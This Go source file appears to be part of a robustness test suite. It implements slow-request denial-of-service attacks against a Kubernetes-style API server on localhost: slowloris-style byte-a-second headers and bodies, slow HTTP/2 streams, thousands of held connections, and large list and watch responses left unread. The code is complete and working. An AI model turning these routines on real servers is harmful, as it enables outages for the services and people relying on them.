package attack

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// slow are requests that come slowly, and answers that are read slowly.
func slow() []Attack {
	return []Attack{
		{
			Group: "slow", Name: "bodies", Answers: 400, Forbidden: true,
			Does: "Sends 400 bodies byte by byte, each on a connection of its own, without any rights.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 400, head("POST", configMaps, stranger)+
					"Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n")
			},
		},
		{
			Group: "slow", Name: "bodies-http2", Answers: 400, Forbidden: true,
			Does: "Sends 400 bodies byte by byte on one HTTP/2 connection, without any rights.",
			Run:  func(ctx context.Context, a *Attacker) error { return a.streams(ctx, stranger, 400) },
		},
		{
			Group: "slow", Name: "bodies-authorized",
			Does: "Sends 400 bodies byte by byte on one HTTP/2 connection, with the right to create what they hold.",
			Run:  func(ctx context.Context, a *Attacker) error { return a.streams(ctx, attacker, 400) },
		},
		{
			Group: "slow", Name: "halves",
			Does: "Sends 400 bodies of 3 MB but for the last byte.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 400, head("POST", configMaps, attacker)+
					"Content-Type: application/json\r\nContent-Length: 3000000\r\n\r\n"+strings.Repeat(" ", 2_990_000))
			},
		},
		{
			Group: "slow", Name: "headers",
			Does: "Sends 400 requests' headers byte by byte, without credentials.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 400, "GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
			},
		},
		{
			Group: "slow", Name: "list-readers", Answers: 100,
			Does:  "Asks for a list of 20 MB on 600 connections and doesn't read it.",
			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 40, 512<<10) },
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 600, head("GET", configMaps, attacker)+"\r\n")
			},
		},
		{
			Group: "slow", Name: "list-keepers", Answers: 100,
			Does:  "Asks for a list of 20 MB on 400 connections and doesn't read it, while it changes what is listed.",
			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 40, 512<<10) },
			Run: func(ctx context.Context, a *Attacker) error {
				var changing sync.WaitGroup
				changing.Go(func() { a.rewrite(ctx, 40, 512<<10) })
				defer changing.Wait()
				return a.dribble(ctx, 400, head("GET", configMaps, attacker)+"\r\n")
			},
		},
		{
			Group: "slow", Name: "long-headers",
			Does: "Sends headers of 500 KB but for their end on 4,000 connections, without credentials.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 4000, "GET / HTTP/1.1\r\nHost: localhost\r\nX: "+strings.Repeat("x", 500_000))
			},
		},
		{
			Group: "slow", Name: "connections", Answers: 1000, Forbidden: true,
			Does: "Opens 8,000 connections, sends a request without credentials on each, and keeps them.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.dribble(ctx, 8000, "GET /api HTTP/1.1\r\nHost: localhost\r\n\r\n")
			},
		},
		{
			Group: "slow", Name: "watch-readers", Answers: 200,
			Does: "Opens 200 watches that it doesn't read, and changes an object of 100 KB all the time.",
			Run: func(ctx context.Context, a *Attacker) error {
				var changing sync.WaitGroup
				changing.Go(func() { a.change(ctx, 100<<10) })
				defer changing.Wait()
				return a.dribble(ctx, 200, head("GET", configMaps+"?watch=1", attacker)+"\r\n")
			},
		},
	}
}

// head is how a request of HTTP/1.1 begins.
func head(method, path, user string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token(user) + "\r\n"
}

// dribble opens n connections, sends a beginning on each, and a byte a second from then on, until ctx ends. It reads
// the first line of each answer and no more.
func (a *Attacker) dribble(ctx context.Context, n int, beginning string) error {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil { // when the server hangs up, begin again
				c, err := a.dial(ctx, "http/1.1")
				if err != nil {
					a.count(ctx, 0, err)
					if !pause(ctx, 50*time.Millisecond) {
						return
					}
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = c.Close() }) // ends what waits for it
				a.trickle(ctx, c, beginning)
				stop()
				_ = c.Close() // once more, perhaps
				if !pause(ctx, 100*time.Millisecond) {
					return
				}
			}
		})
	}
	all.Wait()
	return nil
}

// trickle sends the beginning, and a byte a second until it is answered with an error or hung up on.
func (a *Attacker) trickle(ctx context.Context, c net.Conn, beginning string) {
	var answer sync.WaitGroup
	defer answer.Wait()
	answered := make(chan struct{})
	answer.Go(func() {
		defer close(answered)
		line, err := bufio.NewReaderSize(c, 16).ReadString('\n')
		var code int
		if _, e := fmt.Sscanf(line, "HTTP/1.1 %d", &code); e == nil {
			a.count(ctx, code, nil)
			if code == http.StatusOK || code == http.StatusSwitchingProtocols ||
				code == http.StatusForbidden && strings.Contains(beginning, "GET /api ") {
				<-ctx.Done() // the rest isn't read
			}
		} else if ctx.Err() == nil {
			a.count(ctx, 0, err)
		}
		_ = c.Close() // nothing more is sent
	})
	if _, err := io.WriteString(c, beginning); err != nil {
		return
	}
	for second := time.NewTicker(time.Second); ; {
		select {
		case <-answered:
			return
		case <-second.C:
			if strings.HasPrefix(beginning, "GET") && strings.HasSuffix(beginning, "\r\n\r\n") {
				continue // there is nothing to send
			}
			if _, err := io.WriteString(c, " "); err != nil {
				return
			}
		}
	}
}

// streams sends n slow bodies at once on one HTTP/2 connection.
func (a *Attacker) streams(ctx context.Context, user string, n int) error {
	c := a.client(user, true)
	defer c.close()
	if _, err := c.send(ctx, Request{Method: "GET", Path: "/version"}); err != nil { // the connection
		return err
	}
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				res, err := c.open(ctx, Request{Method: "POST", Path: configMaps}, &slowBody{ctx})
				code := 0
				if err == nil {
					code = res.StatusCode
					_ = res.Body.Close() // of an error, which isn't looked at
				}
				a.count(ctx, code, err)
				if !pause(ctx, 100*time.Millisecond) {
					return
				}
			}
		})
	}
	all.Wait()
	return nil
}

// slowBody is a body without end, a byte a second.
type slowBody struct{ ctx context.Context }

// Read implements io.Reader.
func (b *slowBody) Read(p []byte) (int, error) {
	if !pause(b.ctx, time.Second) {
		return 0, b.ctx.Err()
	}
	p[0] = ' '
	return 1, nil
}

// fill makes n ConfigMaps of a size.
func (t *Target) fill(ctx context.Context, n, size int) error {
	c := t.client(admin, false)
	defer c.close()
	data := strings.Repeat("x", size)
	for i := range n {
		body := fmt.Sprintf(`{"metadata":{"name":"c%d"},"data":{"k":"%s"}}`, i, data)
		if err := c.make(ctx, configMaps, body); err != nil {
			return err
		}
	}
	return nil
}

// rewrite replaces n ConfigMaps of a size, over and over, until ctx ends.
func (a *Attacker) rewrite(ctx context.Context, n, size int) {
	data := strings.Repeat("x", size)
	a.flood(ctx, attacker, 4, func(client, turn int) Request {
		body := fmt.Sprintf(`{"metadata":{"name":"c%d"},"data":{"k":"%d%s"}}`, (turn*4+client)%n, turn, data)
		return Request{Method: "PUT", Path: fmt.Sprintf("%s/c%d", configMaps, (turn*4+client)%n), Body: []byte(body)}
	})
}

// change changes one ConfigMap of a size until ctx ends.
func (a *Attacker) change(ctx context.Context, size int) {
	data := strings.Repeat("x", size)
	a.flood(ctx, attacker, 1, func(_, turn int) Request {
		return Request{
			Method: "PATCH", Path: configMaps + "/changing?fieldManager=m&force=true",
			Media: "application/apply-patch+yaml",
			Body: fmt.Appendf(nil,
				`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"changing"},"data":{"k":"%d%s"}}`,
				turn, data),
		}
	})
}
